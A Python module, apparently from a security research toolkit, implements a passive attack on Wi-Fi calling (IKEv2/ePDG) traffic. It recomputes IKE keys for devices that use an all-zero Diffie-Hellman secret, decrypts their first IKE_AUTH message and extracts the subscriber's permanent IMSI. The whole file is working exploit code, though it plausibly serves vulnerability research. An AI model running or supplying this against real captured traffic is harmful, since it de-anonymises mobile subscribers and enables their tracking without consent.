"""Passive attacks an adversarial ePDG can run on captured traffic."""

import re

from . import crypto, ike
from .crypto import EncrId, IntegId, PrfId, TransformType

_NAI = re.compile(r"^0?([0-9]{15})@")


def zero_dh_keys(init_request, init_response):
    """IKE SA keys a UE derives when it substitutes an all-zero DH secret.

    Returns (keys, algs) from the negotiated transforms and both nonces.
    """
    req = ike.parse_message(init_request)
    resp = ike.parse_message(init_response)
    picked = ike.single_choice(resp.find(ike.SaPayload))
    if picked is None:
        raise ValueError("response does not carry a single negotiated proposal")
    encr, prf = picked[TransformType.ENCR].id, picked[TransformType.PRF].id
    integ, group = picked[TransformType.INTEG].id, picked[TransformType.DH].id
    ni = req.find(ike.NoncePayload).data
    nonce = resp.find(ike.NoncePayload)
    nr = nonce.data if nonce is not None else bytes(16)
    algs = ike.SaAlgs(EncrId(encr), PrfId(prf), IntegId(integ), crypto.DhGroupId(group))
    keys = crypto.derive_ike_keys(prf, ni, nr, crypto.zero_secret(group), req.header.spi_i, resp.header.spi_r,
                                  crypto.key_lengths(prf, integ, encr))
    return keys, algs


def recover_identity(init_request, init_response, auth_request):
    """Decrypt the UE's first IKE_AUTH with zero-secret keys and return the IMSI from IDi."""
    keys, algs = zero_dh_keys(init_request, init_response)
    inner = ike.open_message(ike.parse_message(auth_request), keys, algs, initiator=True)
    idi = inner.find(ike.IdPayload, responder=False)
    if idi is None:
        raise ValueError("IKE_AUTH carries no IDi")
    m = _NAI.match(idi.data.decode(errors="replace"))
    if not m:
        raise ValueError("IDi is not a permanent-identity NAI")
    return m.group(1)


def try_zero_dh_identity(init_request, init_response, auth_request):
    """``recover_identity`` that returns None instead of raising."""
    if not init_request or not init_response:
        return None
    try:
        return recover_identity(init_request, init_response, auth_request)
    except (ValueError, KeyError, AttributeError, crypto.CryptoError, ike.IkeError):
        return None
